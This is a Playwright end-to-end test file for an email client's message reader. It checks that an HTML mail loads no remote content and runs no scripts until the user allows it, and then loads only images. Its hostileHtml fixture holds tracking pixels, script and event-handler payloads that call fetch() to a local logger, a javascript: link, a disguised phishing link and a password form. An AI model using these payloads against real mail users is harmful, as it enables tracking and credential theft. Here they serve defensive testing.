/**
 * The reader of the real app, end to end: mail goes through Postfix, the
 * real core syncs it, the browser host serves the built renderer, and alice
 * clicks through the folder pane and the list as she would. A loopback HTTP
 * logger stands for the tracker: nothing may reach it, nor appear in
 * Chromium's request log, nor run in the page, until alice asks to see this
 * message's remote content, and then only its images load.
 */
import { randomUUID } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { SendMailOptions } from 'nodemailer';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startBrowserHost, type BrowserHost } from '../../electron/server/host.ts';
import { screenshot } from '../support/browser.ts';
import { signIn, startTestCore, type TestCore } from '../support/core.ts';
import { folderRow, frenchWindow, rowWith, useE2eApps } from '../support/e2e-app.ts';
import { injectMail, submitAs, syncUntilDelivered } from '../support/mail/deliver.ts';
import { sogoInvitation } from '../support/mail/invitation.ts';
import { rendererDir } from '../support/renderer-build.ts';
import { caPem, stackPreset, user } from '../support/stack.ts';

const alice = user('alice');
const bob = user('bob');
const tag = randomUUID().slice(0, 8);
const subjects = {
  bob: `Sortie au musée ${tag}`,
  hostile: `Bulletin piégé ${tag}`,
  plain: `Texte seul ${tag}`,
  cid: `Logo ${tag}`,
  invitation: `Invitation : Conseil pédagogique ${tag}`,
};
const PNG_1X1 =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

const apps = useE2eApps();
// One core and host for the whole file (the five messages are synced once); a page per test.
let app: TestCore;
let host: BrowserHost;
let logger: Server;
let loggerBase: string;
const loggerHits: string[] = [];

/** Every way a mail has tried to phone home or run code, each on its own path of the logger. */
function hostileHtml(base: string): string {
  return `<html><head>
<link rel="stylesheet" href="${base}/style.css">
<style>@import url(${base}/import.css); h1 { background: url(${base}/bg.png) }</style>
<meta http-equiv="refresh" content="0;url=${base}/refresh">
<base href="${base}/base/">
</head><body>
<h1>Bulletin du trimestre</h1>
<img src="${base}/pixel.gif" width="1" height="1" alt="">
<script>fetch('${base}/script'); parent.document.title = 'pwned'; parent.postMessage('pwned', '*');</script>
<img src="x" onerror="fetch('${base}/onerror'); parent.postMessage('pwned', '*')">
<p><a id="js" href="javascript:fetch('${base}/js-link')">Voir le bulletin</a></p>
<p><a id="phish" href="${base}/phish">www.ac-lyon.fr</a></p>
<svg onload="fetch('${base}/svg-onload')"><script>fetch('${base}/svg-script'); parent.postMessage('pwned', '*')</script><image href="${base}/svg-image.png"/></svg>
<form action="${base}/form" method="post"><input name="password"><button id="send">Envoyer</button></form>
</body></html>`;
}

/** As another school's server would, through the stack's local injection port. */
async function deliver(mail: SendMailOptions): Promise<void> {
  await injectMail({ from: 'Rectorat <no-reply@rectorat.example.test>', to: alice.email, ...mail });
}

/** Bob through the submission port, authenticated, as his own mail client would. */
async function sendFromBob(): Promise<void> {
  await submitAs(bob, {
    from: `Bob Durand <${bob.email}>`,
    to: alice.email,
    subject: subjects.bob,
    text: 'Bonjour Alice,\n\nLa sortie au musée est confirmée pour jeudi à 9 h.\n\nBob',
  });
}

beforeAll(async () => {
  logger = createServer((req, res) => {
    loggerHits.push(req.url ?? '');
    res.writeHead(200, { 'Content-Type': 'image/png' }).end(Buffer.from(PNG_1X1, 'base64'));
  });
  await new Promise<void>((resolve) => logger.listen(0, '127.0.0.1', resolve));
  loggerBase = `http://127.0.0.1:${(logger.address() as AddressInfo).port}`;

  await sendFromBob();
  await deliver({ subject: subjects.hostile, html: hostileHtml(loggerBase), text: 'version texte' });
  await deliver({
    subject: subjects.plain,
    text: 'Bonjour Alice,\n\nLe conseil est jeudi : https://www.ac-lyon.fr/conseil\n\n> Message précédent\n> cité',
  });
  await deliver({
    subject: subjects.cid,
    html: '<p>Notre logo :</p><img id="logo" src="cid:logo@ecole.example" alt="logo">',
    attachments: [
      { filename: 'logo.png', content: Buffer.from(PNG_1X1, 'base64'), cid: 'logo@ecole.example' },
    ],
  });
  await deliver({
    subject: subjects.invitation,
    text: 'Vous êtes invitée au conseil pédagogique.',
    icalEvent: {
      method: 'REQUEST',
      content: sogoInvitation(alice.email, {
        summary: 'Conseil pédagogique',
        location: 'Salle des professeurs',
      }),
    },
  });
  app = startTestCore({
    extraPresets: [stackPreset],
    extraCaPem: [caPem()],
    watchMail: false,
    recentBodies: false,
    pollIntervalMs: 3_600_000,
  });
  // Syncs until the five test messages are in alice's cache (Postfix delivers asynchronously).
  await syncUntilDelivered(app, await signIn(app, alice), tag, 5);
  host = await startBrowserHost({ core: app.core, rendererDir });
}, 180_000);

afterAll(async () => {
  await host?.close();
  await app?.close();
  logger?.close();
});

interface Opened {
  page: Page;
  /** Every URL Chromium requested, with the URL of the frame that asked. */
  requests: Array<{ url: string; frame: string }>;
  errors: string[];
}

/** Opens the app, then the inbox, then the message: as alice does, with the mouse. */
async function openMessage(subject: string): Promise<Opened> {
  const page = await apps.browser().newPage(frenchWindow);
  const requests: Opened['requests'] = [];
  const errors: string[] = [];
  page.on('request', (request) => requests.push({ url: request.url(), frame: request.frame().url() }));
  // Uncaught exceptions only: the mail frame's CSP refusals are console errors, and expected.
  page.on('pageerror', (error) => errors.push(error.message));
  // Anything a script of the mail could post to the app is recorded, before the app even loads.
  await page.addInitScript(() => {
    const received: unknown[] = [];
    Object.assign(window, { receivedMessages: received });
    window.addEventListener('message', (event) => received.push(event.data));
  });
  await page.goto(host.url);
  await folderRow(page, 'INBOX').click();
  await rowWith(page, subject).click();
  await page.getByTestId('reader-subject').filter({ hasText: subject }).waitFor();
  return { page, requests, errors };
}

const fromLogger = (requests: Opened['requests']) =>
  requests.filter((request) => request.url.startsWith(loggerBase)).map((request) => request.url);
const receivedMessages = (page: Page) =>
  page.evaluate(() => (window as unknown as { receivedMessages: unknown[] }).receivedMessages);

describe('the reader of the app, in Chromium', () => {
  it('alice reads the message bob sent her: his real address and the body', async () => {
    const { page, errors } = await openMessage(subjects.bob);
    expect(await page.getByTestId('reader-from').innerText()).toContain('Bob Durand');
    expect(await page.getByTestId('reader-from-address').textContent()).toBe(`<${bob.email}>`);
    expect(await page.getByTestId('reader-to').innerText()).toContain(alice.email);
    const body = page.getByTestId('plain-text');
    await body.waitFor();
    expect(await body.innerText()).toContain('La sortie au musée est confirmée pour jeudi à 9 h.');
    expect(errors).toEqual([]);
    await screenshot(page, '20-lecteur-message-de-bob');
    await page.close();
  });

  it('loads nothing remote and runs nothing until asked, then only this message’s images', async () => {
    const { page, requests, errors } = await openMessage(subjects.hostile);
    const frame = page.frameLocator('[data-testid="mail-frame"]');
    await frame.locator('h1').waitFor();
    await page.getByTestId('remote-bar').waitFor();
    // Time for anything that would fire on load: images, styles, scripts, refresh, handlers.
    await page.waitForTimeout(1500);
    expect(loggerHits).toEqual([]);
    expect(fromLogger(requests)).toEqual([]);
    // The mail's frame asked for nothing at all (its document is a srcdoc, never fetched).
    expect(requests.filter((request) => request.frame === 'about:srcdoc')).toEqual([]);
    // The app's own title (it carries the unread count, which opening the message changed).
    expect(await page.title()).toMatch(/^(\(\d+\) )?Cartable$/);
    expect(await receivedMessages(page)).toEqual([]);
    expect(await frame.locator('script, form, svg, meta[http-equiv="refresh"], base, link').count()).toBe(0);
    expect(await page.getByTestId('reader-from-address').textContent()).toBe(
      '<no-reply@rectorat.example.test>',
    );
    expect(await page.getByTestId('remote-bar').innerText()).toContain(
      'Des contenus distants ont été bloqués',
    );
    await screenshot(page, '21-lecteur-contenu-distant-bloque');

    // A javascript: link is inert; a disguised link asks first and tells the truth.
    await frame.locator('#js').click();
    await page.waitForTimeout(300);
    expect(await page.getByTestId('link-confirm').count()).toBe(0);
    await frame.locator('#phish').click();
    const dialog = page.getByTestId('link-confirm');
    await dialog.waitFor();
    expect(await dialog.getByTestId('link-target').textContent()).toBe(`${loggerBase}/phish`);
    expect(await dialog.getByTestId('link-mismatch').textContent()).toContain(
      'Le texte affiche ac-lyon.fr mais le lien mène à 127.0.0.1',
    );
    await screenshot(page, '22-lecteur-lien-trompeur');
    await dialog.getByRole('button', { name: 'Annuler' }).click();
    expect(page.frames().map((f) => f.url())).not.toContain(`${loggerBase}/phish`);
    expect(loggerHits).toEqual([]);

    await page.getByRole('button', { name: 'Afficher pour ce message' }).click();
    await expect.poll(() => loggerHits.includes('/pixel.gif'), { timeout: 10_000 }).toBe(true);
    await expect.poll(() => loggerHits.includes('/bg.png'), { timeout: 10_000 }).toBe(true);
    await page.waitForTimeout(1000);
    // Exactly the two images, once each: no stylesheet, import, refresh, script, handler, SVG, form.
    expect([...loggerHits].sort()).toEqual(['/bg.png', '/pixel.gif']);
    expect(fromLogger(requests).sort()).toEqual([`${loggerBase}/bg.png`, `${loggerBase}/pixel.gif`]);
    expect(
      requests
        .filter((request) => request.frame === 'about:srcdoc')
        .map((request) => request.url)
        .sort(),
    ).toEqual([`${loggerBase}/bg.png`, `${loggerBase}/pixel.gif`]);
    // The app's own title (it carries the unread count, which opening the message changed).
    expect(await page.title()).toMatch(/^(\(\d+\) )?Cartable$/);
    expect(await receivedMessages(page)).toEqual([]);
    expect(await page.getByTestId('remote-bar').count()).toBe(0);
    expect(errors).toEqual([]);
    await screenshot(page, '23-lecteur-contenu-distant-affiche');
    await page.close();
  });

  it('shows a plain-text mail as text, quotes set apart, links that ask first', async () => {
    const { page, errors } = await openMessage(subjects.plain);
    const text = page.getByTestId('plain-text');
    await text.waitFor();
    expect(await text.textContent()).toContain('Le conseil est jeudi');
    expect(await page.getByTestId('mail-frame').count()).toBe(0);
    await text.getByRole('link', { name: 'https://www.ac-lyon.fr/conseil' }).click();
    expect(await page.getByTestId('link-target').textContent()).toBe('https://www.ac-lyon.fr/conseil');
    expect(errors).toEqual([]);
    await screenshot(page, '24-lecteur-texte-brut');
    await page.close();
  });

  it('shows a cid: image from the message itself, with no request', async () => {
    const hitsBefore = loggerHits.length;
    const { page, requests, errors } = await openMessage(subjects.cid);
    const logo = page.frameLocator('[data-testid="mail-frame"]').locator('#logo');
    await logo.waitFor();
    await expect.poll(() => logo.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
    expect(await logo.getAttribute('src')).toMatch(/^data:image\/png;base64,/);
    expect(await page.getByTestId('remote-bar').count()).toBe(0);
    expect(
      requests.filter((request) => !request.url.startsWith(host.origin) && !request.url.startsWith('data:')),
    ).toEqual([]);
    expect(loggerHits.length).toBe(hitsBefore);
    expect(errors).toEqual([]);
    await page.close();
  });

  it('shows an invitation as a summary card, read from its calendar part', async () => {
    const { page, errors } = await openMessage(subjects.invitation);
    const card = page.getByTestId('invitation');
    await page.getByTestId('invitation-title').waitFor();
    expect(await page.getByTestId('invitation-title').innerText()).toBe('Conseil pédagogique');
    expect(await card.getByTestId('invitation-when').innerText()).toMatch(/jeudi 12 novembre 2026 à 14:00/);
    expect(await card.getByTestId('invitation-where').innerText()).toBe('Salle des professeurs');
    expect(await card.getByTestId('invitation-organizer').innerText()).toContain('Dupont, Marie');
    expect(await card.getByTestId('invitation-attendees').innerText()).toContain('Alice Martin');
    expect(errors).toEqual([]);
    await screenshot(page, '25-lecteur-invitation');
    await page.close();
  });
});
